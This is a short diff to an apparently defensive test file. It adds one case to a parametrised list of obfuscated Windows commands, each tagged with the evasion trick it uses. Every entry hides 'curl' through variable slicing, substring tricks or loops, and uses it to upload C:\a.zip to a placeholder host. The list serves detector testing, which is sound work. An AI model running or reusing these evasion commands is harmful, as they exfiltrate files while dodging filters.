@@ -57,6 +57,7 @@ def test_the_script_stands_after_the_switch(line: str, script: str) -> None:
         (r"set a=zzcurlzz&& call %a:~2,-2% -T C:\a.zip http://h/", "part of a variable"),
         (r"set a=junk;curl&& call %a:*;=% -T C:\a.zip http://h/", "part of a variable"),
         (r"%COMSPEC:~-7,1%url -T %SystemDrive%\a.zip http://h/", "part of a variable"),
+        (r"%%COMSPEC:~-7,1%%url -T %%SystemDrive%%\a.zip http://h/", "part of a variable"),
         (r"set n=1&set /a m=n+1&call set f=%m%&curl -T C:\a.zip http://h/", None),
         (r"for %i in (curl) do %i -T C:\a.zip http://h/", "loop"),
         (r'for /f %i in ("curl") do %i -T C:\a.zip http://h/', "loop"),
